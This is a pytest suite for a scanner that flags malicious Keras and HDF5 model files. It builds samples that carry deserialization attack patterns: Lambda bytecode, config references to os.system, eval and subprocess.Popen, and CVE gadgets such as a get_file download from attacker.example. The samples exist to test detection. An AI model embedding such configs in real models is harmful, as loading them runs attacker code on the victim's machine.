"""KerasScanner: Keras v3 archives and legacy HDF5 models judged by their config, never loaded.

Samples are built here: zips of config.json/metadata.json, and HDF5 files written with h5py (the
attributes Keras writes). Lambda bytecode is produced with marshal.dumps of a code object, which
compiles nothing from the sample and runs nothing.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import zipfile
from pathlib import Path

import h5py
import numpy as np
import pytest

from bastion.scanning.results import Verdict
from bastion.scanning.scanners.keras import SCANNER_NAME, SCANNER_VERSION, KerasScanner, config_findings
from bastion.scanning.scanners.pickles import ScanLimits

LAMBDA_CODE = base64.b64encode(marshal.dumps((lambda x: x * 2).__code__)).decode()


def obj(module: str, class_name: str, config, registered_name=None) -> dict:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered_name}


def dense(name: str, units: int, activation: str = "relu") -> dict:
    """A Dense layer as Keras 3 writes it (initializers and dtype policy as nested objects)."""
    return {**obj("keras.layers", "Dense", {
        "name": name, "trainable": True, "dtype": obj("keras", "DTypePolicy", {"name": "float32"}),
        "units": units, "activation": activation, "use_bias": True,
        "kernel_initializer": obj("keras.initializers", "GlorotUniform", {"seed": None}),
        "bias_initializer": obj("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None}), "build_config": {"input_shape": [None, 8]}}


def sequential(*layers: dict) -> dict:
    return {**obj("keras", "Sequential", {"name": "sequential", "trainable": True, "layers": [
        obj("keras.layers", "InputLayer", {"batch_shape": [None, 8], "dtype": "float32", "name": "input"}),
        *layers]}), "compile_config": {
            "optimizer": obj("keras.optimizers", "Adam", {"name": "adam", "learning_rate": 0.001}),
            "loss": obj("keras.losses", "SparseCategoricalCrossentropy", {"from_logits": True}),
            "metrics": ["accuracy"], "loss_weights": None}}


def weights_h5() -> bytes:
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.create_group("layers/dense/vars").create_dataset("0", data=np.zeros((8, 4), dtype="float32"))
    return buf.getvalue()


def keras_archive(config: dict, extra: dict[str, bytes] | None = None, compression: int = zipfile.ZIP_DEFLATED,
                  ) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}))
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("model.weights.h5", weights_h5())
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return buf.getvalue()


def legacy_h5(model_config: dict | None, *, as_bytes: bool = True, userblock: int = 0,
              training_config: dict | None = None) -> bytes:
    """An HDF5 model as tf.keras 2 saved it: JSON config attributes at the root, weights in groups."""
    buf = io.BytesIO()
    with h5py.File(buf, "w", userblock_size=userblock) as f:
        if model_config is not None:
            raw = json.dumps(model_config)
            f.attrs["model_config"] = raw.encode() if as_bytes else raw
            f.attrs["keras_version"] = b"2.13.1"
            f.attrs["backend"] = b"tensorflow"
        if training_config is not None:
            f.attrs["training_config"] = json.dumps(training_config).encode()
        f.create_group("model_weights/dense").create_dataset("kernel:0", data=np.ones((8, 4), dtype="float32"))
    return buf.getvalue()


LEGACY_BENIGN = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
    {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 8], "dtype": "float32"}},
    {"class_name": "Dense", "config": {"name": "dense", "units": 4, "activation": "relu",
                                       "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}}}},
]}}
LEGACY_LAMBDA = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
    {"class_name": "Lambda", "config": {"name": "lambda", "function": [LAMBDA_CODE, None, None],
                                        "function_type": "lambda", "output_shape": None, "arguments": {}}},
]}}


def levels(result) -> dict[str, str]:
    return {f["name"]: f["level"] for f in result.details["findings"]}


@pytest.fixture(scope="module")
def scanner() -> KerasScanner:
    return KerasScanner()


def test_scanner_identity() -> None:
    scanner = KerasScanner()
    assert (scanner.name, scanner.version()) == (SCANNER_NAME, SCANNER_VERSION) == ("keras", "1.0.0")


# -- Keras v3 archives ------------------------------------------------------------------------------------


def test_benign_keras_archive_is_safe(scanner: KerasScanner) -> None:
    result = scanner.scan_bytes(keras_archive(sequential(dense("dense", 4), dense("out", 2, "softmax"))),
                                "model.keras")
    assert result.verdict is Verdict.SAFE, result.details["findings"]
    assert result.details["format"] == "keras"
    assert result.details["kerasVersion"] == "3.8.0"
    assert result.details["configs"] == 1 and result.details["findings"] == []
    json.dumps(result.details)


def test_lambda_with_marshalled_bytecode_is_unsafe(scanner: KerasScanner) -> None:
    layer = obj("keras.layers", "Lambda", {"name": "evil", "function": obj(
        "builtins", "__lambda__", {"code": LAMBDA_CODE, "defaults": None, "closure": None}), "arguments": {}})
    result = scanner.scan_bytes(keras_archive(sequential(dense("d", 4), layer)), "model.keras")
    assert result.verdict is Verdict.UNSAFE
    [finding] = result.details["findings"]
    assert finding["kind"] == "lambda" and finding["name"] == "evil"
    assert "marshalled Python bytecode" in finding["reason"]
    assert finding["location"] == "config.json:.config.layers[2]"


def test_custom_objects_outside_keras_are_suspicious_with_their_names(scanner: KerasScanner) -> None:
    layer = obj("my_pkg.layers", "Backdoor", {"name": "b"}, "my_pkg>Backdoor")
    loss = obj("my_pkg.losses", "FocalLoss", {})
    config = sequential(dense("d", 4), layer)
    config["compile_config"]["loss"] = loss
    result = scanner.scan_bytes(keras_archive(config), "model.keras")
    assert result.verdict is Verdict.SUSPICIOUS
    assert levels(result) == {"my_pkg.layers.Backdoor": "suspicious", "my_pkg.losses.FocalLoss": "suspicious"}
    assert {f["kind"] for f in result.details["findings"]} == {"custom-object"}


def test_registered_custom_name_without_module_is_suspicious() -> None:
    found = config_findings({"class_name": "Backdoor", "config": {}, "registered_name": "Custom>Backdoor"}, "c")
    assert [(f.level, f.kind) for f in found] == [(Verdict.SUSPICIOUS, "custom-object")]


@pytest.mark.parametrize("module,name", [("os", "system"), ("builtins", "eval"), ("subprocess", "Popen")])
def test_function_from_a_dangerous_module_is_unsafe(scanner: KerasScanner, module: str, name: str) -> None:
    layer = dense("d", 4)
    layer["config"]["activation"] = obj(module, "function", name, "function")
    result = scanner.scan_bytes(keras_archive(sequential(layer)), "model.keras")
    assert result.verdict is Verdict.UNSAFE
    assert levels(result) == {f"{module}.{name}": "unsafe"}


def test_cve_2025_1550_enable_unsafe_deserialization_is_unsafe(scanner: KerasScanner) -> None:
    gadget = obj("keras.config", "function", "enable_unsafe_deserialization", "function")
    config = sequential(dense("d", 4))
    config["config"]["layers"].insert(0, gadget)
    result = scanner.scan_bytes(keras_archive(config), "model.keras")
    assert result.verdict is Verdict.UNSAFE
    [finding] = result.details["findings"]
    assert finding["kind"] == "gadget" and finding["name"] == "keras.config.enable_unsafe_deserialization"


def test_cve_2025_9906_lambda_calling_load_model_with_safe_mode_off_is_unsafe(scanner: KerasScanner) -> None:
    layer = obj("keras.layers", "Lambda", {"name": "unsafe_deserialization", "function": obj(
        "keras.models", "function", "load_model", "function"), "arguments": {"safe_mode": False}})
    result = scanner.scan_bytes(keras_archive(sequential(layer)), "model.keras")
    assert result.verdict is Verdict.UNSAFE
    assert levels(result) == {"keras.models.load_model": "unsafe", "safe_mode": "suspicious"}


def test_cve_2025_8747_get_file_is_unsafe(scanner: KerasScanner) -> None:
    layer = obj("keras.layers", "Lambda", {"name": "fetch", "function": obj(
        "keras.utils", "function", "get_file", "function"), "arguments": {"origin": "https://attacker.example/x"}})
    assert scanner.scan_bytes(keras_archive(sequential(layer)), "model.keras").verdict is Verdict.UNSAFE


def test_lambda_calling_a_keras_builtin_is_safe(scanner: KerasScanner) -> None:
    layer = obj("keras.layers", "Lambda", {"name": "act", "function": obj(
        "keras.activations", "function", "relu", "function"), "arguments": {}})
    result = scanner.scan_bytes(keras_archive(sequential(layer)), "model.keras")
    assert result.verdict is Verdict.SAFE, result.details["findings"]


@pytest.mark.parametrize("function,verdict", [("math.add", Verdict.SAFE), ("__operators__.getitem", Verdict.SAFE),
                                              ("io.write_file", Verdict.UNSAFE), ("py_function", Verdict.UNSAFE),
                                              ("raw_ops.ReadFile", Verdict.UNSAFE)])
def test_tf_op_lambda_is_judged_by_the_function_it_calls(scanner: KerasScanner, function: str, verdict: Verdict) -> None:
    layer = obj("keras.layers", "TFOpLambda", {"name": "op", "function": function})
    assert scanner.scan_bytes(keras_archive(sequential(layer)), "m.keras").verdict is verdict


def test_bytecode_hidden_outside_a_lambda_is_unsafe() -> None:
    found = config_findings({"class_name": "Dense", "config": {"name": "d", "note": LAMBDA_CODE}}, "config.json")
    assert [(f.level, f.kind) for f in found] == [(Verdict.UNSAFE, "bytecode")]


def test_ordinary_base64_is_not_taken_for_bytecode() -> None:
    rng = np.random.default_rng(7)
    strings = [base64.b64encode(rng.bytes(48)).decode() for _ in range(2000)]
    strings += ["Yolo detection head, layer 12", "Y" * 40, base64.b64encode(b"c" + b"\xff" * 30).decode()]
    assert config_findings({"class_name": "Dense", "config": {"notes": strings}}, "config.json") == []


@pytest.mark.parametrize("module,name,verdict", [("tensorflow.io", "write_file", Verdict.UNSAFE),
                                                 ("tensorflow", "py_function", Verdict.UNSAFE),
                                                 ("tensorflow.math", "add", Verdict.SUSPICIOUS)])
def test_tensorflow_objects_are_judged_by_what_they_do(module: str, name: str, verdict: Verdict) -> None:
    found = config_findings(obj(module, "function", name, "function"), "config.json")
    assert [f.level for f in found] == [verdict]


def test_every_config_json_is_read_even_a_duplicate(scanner: KerasScanner) -> None:
    evil = sequential(obj("keras.layers", "Lambda", {"name": "x", "function": obj(
        "builtins", "__lambda__", {"code": LAMBDA_CODE})}))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("metadata.json", "{}")
        zf.writestr("config.json", json.dumps(sequential(dense("d", 4))))
        with pytest.warns(UserWarning, match="Duplicate name"):
            zf.writestr("config.json", json.dumps(evil))
    result = scanner.scan_bytes(buf.getvalue(), "model.keras")
    assert result.verdict is Verdict.UNSAFE and result.details["configs"] == 2


def test_archive_bounds_come_from_the_pickle_scanner_limits() -> None:
    archive = keras_archive(sequential(dense("d", 4)), extra={f"assets/{i}.txt": b"x" for i in range(10)})
    result = KerasScanner(ScanLimits(max_zip_members=5)).scan_bytes(archive, "model.keras")
    assert result.verdict is Verdict.SUSPICIOUS
    assert "too many zip members" in result.details["findings"][0]["reason"]
    result = KerasScanner(ScanLimits(max_keras_config=100)).scan_bytes(archive, "model.keras")
    assert result.verdict is Verdict.SUSPICIOUS
    assert any("over the 100-byte limit" in f["reason"] for f in result.details["findings"])


def test_config_json_bomb_is_stopped() -> None:
    bomb = json.dumps({"class_name": "Sequential", "config": {"pad": " " * (20 << 20)}})
    result = KerasScanner().scan_bytes(keras_archive(json.loads(bomb)), "model.keras")
    assert result.verdict is Verdict.SUSPICIOUS
    assert any("limit" in f["reason"] for f in result.details["findings"])


@pytest.mark.parametrize("data,name", [(b"not a zip at all", "model.keras"), (b"\x00" * 64, "model.h5")])
def test_named_like_keras_but_something_else_is_suspicious(scanner: KerasScanner, data: bytes, name: str) -> None:
    assert scanner.scan_bytes(data, name).verdict is Verdict.SUSPICIOUS


def test_zip_without_config_is_suspicious_and_unrelated_content_is_not_judged(scanner: KerasScanner) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("readme.txt", "hello")
    assert scanner.scan_bytes(buf.getvalue(), "model.keras").verdict is Verdict.SUSPICIOUS
    result = scanner.scan_bytes(b"plain text", "notes.txt")
    assert (result.verdict, result.details["format"]) == (Verdict.SAFE, "not-keras")


# -- legacy HDF5 ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("as_bytes", [True, False], ids=["fixed-length", "variable-length"])
def test_benign_legacy_h5_is_safe(scanner: KerasScanner, as_bytes: bool) -> None:
    result = scanner.scan_bytes(legacy_h5(LEGACY_BENIGN, as_bytes=as_bytes), "model.h5")
    assert result.verdict is Verdict.SAFE, result.details
    assert result.details["format"] == "keras-h5" and result.details["configs"] == 1
    assert result.details["kerasVersion"] == "2.13.1"


def test_legacy_h5_lambda_is_unsafe(scanner: KerasScanner, tmp_path: Path) -> None:
    path = tmp_path / "model.h5"
    path.write_bytes(legacy_h5(LEGACY_LAMBDA))
    result = scanner.scan_path(path)
    assert result.verdict is Verdict.UNSAFE
    [finding] = result.details["findings"]
    assert finding["kind"] == "lambda" and finding["location"].startswith("model_config:")
    assert "CVE-2024-3660" in finding["reason"]


def test_training_config_is_walked_too(scanner: KerasScanner) -> None:
    training = {"loss": {"module": "os", "class_name": "function", "config": "system", "registered_name": None}}
    result = scanner.scan_bytes(legacy_h5(LEGACY_BENIGN, training_config=training), "model.h5")
    assert result.verdict is Verdict.UNSAFE
    assert result.details["findings"][0]["location"].startswith("training_config:")


def test_h5_behind_a_user_block_is_still_read(scanner: KerasScanner) -> None:
    data = legacy_h5(LEGACY_LAMBDA, userblock=512)
    assert data[:8] != b"\x89HDF\r\n\x1a\n"
    assert scanner.scan_bytes(data, "weights.bin").verdict is Verdict.UNSAFE


def test_weights_only_h5_is_safe_and_says_so(scanner: KerasScanner) -> None:
    result = scanner.scan_bytes(legacy_h5(None), "weights.h5")
    assert result.verdict is Verdict.SAFE
    assert result.details["format"] == "hdf5" and result.details["notes"]


def test_oversized_attribute_is_not_read() -> None:
    result = KerasScanner(ScanLimits(max_keras_config=64)).scan_bytes(legacy_h5(LEGACY_BENIGN), "model.h5")
    assert result.verdict is Verdict.SUSPICIOUS
    assert "over the 64-byte limit" in result.details["findings"][0]["reason"]


def test_corrupt_hdf5_is_suspicious_never_an_exception(scanner: KerasScanner) -> None:
    result = scanner.scan_bytes(b"\x89HDF\r\n\x1a\n" + b"\xff" * 500, "model.h5")
    assert result.verdict is Verdict.SUSPICIOUS
    assert "unreadable HDF5" in result.summary or "unreadable HDF5" in result.details["findings"][0]["reason"]
